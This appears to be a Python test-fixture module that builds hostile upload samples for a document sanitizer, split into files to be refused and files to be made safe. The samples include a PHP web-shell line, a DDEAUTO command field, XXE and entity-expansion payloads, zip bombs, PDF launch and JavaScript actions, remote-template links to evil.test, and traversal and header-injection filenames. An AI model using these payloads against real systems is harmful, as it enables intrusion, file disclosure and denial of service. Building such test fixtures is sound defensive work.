"""Files that somebody sends who means no good: those that are refused, and those that are made safe."""

from collections.abc import Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.funding import samples
from tests.funding.samples import SECRET, annotated, docx, field, linked, pdf, photo, picture, script

OBJECTS = pikepdf.ObjectStreamMode.generate
HTML = b"<html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
PROGRAM = b"MZ\x90\0" + b"\0" * 300
JS = {"/JS": String("app.alert(1)")}
RTL = "\u202e"


def refused() -> Iterator[tuple[str, str, bytes]]:
    """What is not taken: what it is, its name, its content."""
    yield "nothing", "a.pdf", b""
    yield "a program", "setup.exe", PROGRAM
    yield "a program called a picture", "photo.jpg", PROGRAM
    yield "a program called a PDF", "lease.pdf", PROGRAM
    yield "a program under two endings", "photo.jpg.exe", PROGRAM
    yield "a program that hides its ending", f"photo{RTL}gpj.exe", PROGRAM
    yield "a web page", "a.html", HTML
    yield "a web page called a PDF", "a.pdf", HTML
    yield "a web page called a Word file", "a.docx", HTML
    yield "a web page before a PDF", "a.pdf", HTML + pdf()
    yield "a drawing for the web", "a.svg", SVG
    yield "a drawing called a picture", "a.png", SVG
    yield "a GIF", "a.gif", b"GIF89a" + b"\0" * 60
    yield "a GIF called a JPEG", "a.jpg", b"GIF89a/*" + b"\0" * 60
    yield "a script", "a.php", b"<?php system($_GET[0]);"
    yield "a script called a picture", "a.php.png", b"<?php system($_GET[0]);"
    yield "no ending", "lease", pdf()
    yield "only dots", "...", pdf()
    yield "a PDF called a picture", "a.jpg", pdf()
    yield "a picture called a PDF", "a.pdf", picture()
    yield "a ZIP", "a.zip", docx()
    yield "a Word file called a PDF", "a.pdf", docx()
    yield "an old Word file", "a.doc", OLE
    yield "an old Word file called a new one", "a.docx", OLE
    yield "the head of a JPEG alone", "a.jpg", b"\xff\xd8\xff\xe0"
    yield "half a JPEG", "a.jpg", picture(size=(800, 800))[:3000]
    yield "half a PNG", "a.png", picture("PNG", size=(800, 800), mode="RGB")[:200]
    yield "the head of a PNG alone", "a.png", b"\x89PNG\r\n\x1a\n"
    yield "a PNG of 3,600 million pixels", "a.png", samples.huge_png()
    yield "a PNG of a long line", "a.png", samples.huge_png(2_000_000_000, 1)
    yield "a PNG without height", "a.png", samples.huge_png(10, 0)
    yield "half a HEIC", "a.heic", picture("HEIF", size=(200, 200))[:300]
    yield "the head of a HEIC alone", "a.heic", b"\0\0\0\x18ftypheic\0\0\0\0heicmif1"
    yield "a HEIC of noise", "a.heic", b"\0\0\0\x18ftypheic\0\0\0\0heicmif1" + bytes(range(256)) * 20
    yield "a film called a HEIC", "a.heic", b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + b"\0" * 500
    yield "half a PDF", "a.pdf", pdf(pages=30)[:120]
    yield "the head of a PDF alone", "a.pdf", b"%PDF-1.7\n"
    yield "a PDF of noise", "a.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40
    yield "a PDF without pages", "a.pdf", pdf(pages=0)
    yield "a PDF of 501 pages", "a.pdf", pdf(pages=501)
    yield "a locked PDF", "a.pdf", pdf(encryption=pikepdf.Encryption(user="secret", owner="secret"))
    yield "a PDF that starts a program", "a.pdf", pdf(annotated(script("/Launch", **{"/F": String("cmd.exe")})))
    yield "the same in an object stream", "a.pdf", pdf(annotated(script("/Launch")), object_stream_mode=OBJECTS)
    yield "a PDF with a program inside", "a.pdf", pdf(samples.with_file_inside)
    yield "the same in an object stream", "a.pdf", pdf(samples.with_file_inside, object_stream_mode=OBJECTS)
    yield "a PDF with a file on its page", "a.pdf", pdf(_file_on_the_page)
    yield "a PDF form of Adobe's own kind", "a.pdf", pdf(_xfa)
    yield "a PDF whose content lies elsewhere", "a.pdf", pdf(_content_elsewhere)
    yield "a bomb in one part", "a.docx", docx({"word/media/a.bmp": b"\0" * 30_000_000})
    yield "a bomb of many parts", "a.docx", docx({f"word/p{n}.xml": "<a/>" for n in range(2100)})
    yield "a bomb that lies about its size", "a.docx", _lying(docx({"word/styles.xml": b" " * 3_000_000}))
    yield "macros", "a.docx", docx({"word/vbaProject.bin": OLE})
    yield "macros by their type", "a.docx", docx({"[Content_Types].xml": samples.CONTENT_TYPES.replace(
        "openxmlformats-officedocument.wordprocessingml.document", "ms-word.document.macroEnabled")})  # fmt: skip
    yield "macros under a Word name", "a.docm", docx({"word/vbaProject.bin": OLE})
    yield "controls", "a.docx", docx({"word/activeX/activeX1.xml": "<a/>"})
    yield "a program inside", "a.docx", docx({"word/media/evil.exe": PROGRAM})
    yield "an object inside", "a.docx", docx({"word/embeddings/oleObject1.bin": OLE})
    yield "a spreadsheet inside", "a.docx", docx({"word/embeddings/a.xlsx": b"PK\3\4"})
    yield "a web page inside", "a.docx", docx({"word/chunk.html": HTML})
    yield "a script in a drawing inside", "a.docx", docx({"word/media/a.svg": SVG})
    yield "a template from elsewhere", "a.docx", linked("attachedTemplate", "http://evil.test/a.dotm")
    yield "a template from a share", "a.docx", linked("attachedTemplate", r"\\evil.test\a.dotm", external=False)
    yield "a picture from elsewhere", "a.docx", linked("image", "http://evil.test/a.png")
    yield "a frame from elsewhere", "a.docx", linked("frame", "http://evil.test/")
    yield "an object from elsewhere", "a.docx", linked("oleObject", "mhtml:http://evil.test/a!x-usc:http://evil.test/b")
    yield "a link to a share", "a.docx", linked("hyperlink", r"\\evil.test\a")
    yield "a link into the machine", "a.docx", linked("hyperlink", "file:///etc/passwd")
    yield "a link that is a script", "a.docx", linked("hyperlink", "javascript:alert(1)")
    yield "a command", "a.docx", field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')
    yield "a command in pieces", "a.docx", field("DD", "EAU", "TO cmd")
    yield "a text from elsewhere", "a.docx", field("INCLUDETEXT http://evil.test/a")
    yield "entities that grow", "a.docx", docx({"word/styles.xml": _laughs()})
    yield "an entity that reads a file", "a.docx", docx({"word/styles.xml": _reading()})
    yield "an entity in two-byte letters", "a.docx", docx({"word/styles.xml": _reading().encode("utf-16")})
    yield "an entity in seven-bit letters", "a.docx", docx({"word/styles.xml": '<?xml encoding="UTF-7"?><a/>'})
    yield "a name that climbs", "a.docx", docx({"../../etc/cron.d/a.xml": "<a/>"})
    yield "a name from the root", "a.docx", docx({"/etc/a.xml": "<a/>"})
    yield "a name of another system", "a.docx", docx({"word\\..\\a.xml": "<a/>"})
    yield "two parts of one name", "a.docx", docx({"WORD/document.xml": "<a/>"})
    yield "no document", "a.docx", docx(without="word/document.xml")
    yield "no list of types", "a.docx", docx(without="[Content_Types].xml")
    yield "broken XML", "a.docx", docx({"word/document.xml": "<w:document"})
    yield "a broken photo inside", "a.docx", docx({"word/media/image1.jpeg": photo()[:200]})
    yield "half a Word file", "a.docx", docx()[:400]


def made_safe() -> Iterator[tuple[str, str, bytes]]:
    """What is kept without what was dangerous."""
    yield "a photo that says where", "a.jpg", photo()
    yield "a HEIC that says where", "a.heic", photo("HEIF")
    yield "a PNG that says where", "a.png", photo("PNG")
    yield "a PNG with words", "a.png", samples.png_with_words()
    yield "a web page after a JPEG", "a.jpg", picture() + HTML
    yield "a web page in a JPEG", "a.jpg", picture(comment=HTML)
    yield "a ZIP after a JPEG", "a.jpg", picture() + docx()
    yield "a program after a PNG", "a.png", picture("PNG") + PROGRAM
    yield "a JPEG called a HEIC", "a.heic", picture()
    yield "an ending in capitals", "A.JPG", picture()
    yield "an inner ending", "shell.php.jpg", picture()
    yield "a name that climbs", "../../../etc/passwd.jpg", picture()
    yield "a name of another system", "C:\\Windows\\system32\\a.jpg", picture()
    yield "a name with a NUL", "a\0.exe.jpg", picture()
    yield "a name that turns", f"a{RTL}gpj.exe.jpg", picture()
    yield "a name with an order", 'a"; filename="b.exe\r\nSet-Cookie: a=b.jpg', picture()
    yield "a very long name", "a" * 5000 + ".jpg", picture()
    yield "a name of nothing", ".jpg", picture()
    yield "a name in Arabic", "عقد الإيجار.jpg", picture()
    yield "a PDF that runs", "a.pdf", pdf(samples.open_script)
    yield "the same in an object stream", "a.pdf", pdf(samples.open_script, object_stream_mode=OBJECTS)
    yield "a script on a link", "a.pdf", pdf(annotated(script(**JS)))
    yield "a script after a link", "a.pdf", pdf(annotated(script("/URI", **{"/URI": String("https://a.test"),
                                                                             "/Next": script(**JS)})))  # fmt: skip
    yield "a list of scripts after a link", "a.pdf", pdf(annotated(script("/GoTo", **{"/Next": Array([script(**JS)])})))
    yield "scripts by name", "a.pdf", pdf(_scripts_by_name)
    yield "a script on the page", "a.pdf", pdf(_script_on_the_page)
    yield "a form that sends", "a.pdf", pdf(annotated(script("/SubmitForm", **{"/F": String("http://evil.test")})))
    yield "a link into another file", "a.pdf", pdf(annotated(script("/GoToR", **{"/F": String(r"\\evil.test\a")})))
    yield "a link that is a script", "a.pdf", pdf(annotated(script("/URI", **{"/URI": String("javascript:x")})))
    yield "a link into the machine", "a.pdf", pdf(annotated(script("/URI", **{"/URI": String("file:///etc/passwd")})))
    yield "a PDF that says where and by whom", "a.pdf", pdf(samples.with_photo)
    yield "a PDF that may not be printed", "a.pdf", pdf(encryption=pikepdf.Encryption(owner="secret", user=""))
    yield "a web page after a PDF", "a.pdf", pdf() + HTML
    yield "a Word file that says by whom", "a.docx", docx({"docProps/core.xml": samples.CORE.replace(
        "Sara Malik", SECRET.decode())})  # fmt: skip
    yield "a program before a Word file", "a.docx", docx() + PROGRAM


def _file_on_the_page(made: pikepdf.Pdf) -> None:
    stream = made.make_stream(b"MZ")
    spec = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=stream))
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=spec)
    made.pages[0].Annots = Array([note])


def _xfa(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = Dictionary(XFA=made.make_stream(b"<xdp/>"), Fields=Array([]))


def _content_elsewhere(made: pikepdf.Pdf) -> None:
    made.pages[0].Contents = pikepdf.Stream(made, b"", F=String(r"\\evil.test\a"))


def _scripts_by_name(made: pikepdf.Pdf) -> None:
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script(**JS)])))


def _script_on_the_page(made: pikepdf.Pdf) -> None:
    made.pages[0].AA = Dictionary(O=script(**JS), C=script("/Launch"))


def _lying(content: bytes) -> bytes:
    """The same ZIP; its list of contents says that the largest part is ten bytes long."""
    return content.replace((3_000_000).to_bytes(4, "little"), (10).to_bytes(4, "little"))


def _laughs() -> str:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "ha">{entities}]><a>&l9;</a>'


def _reading() -> str:
    return '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


REFUSED, MADE_SAFE = list(refused()), list(made_safe())
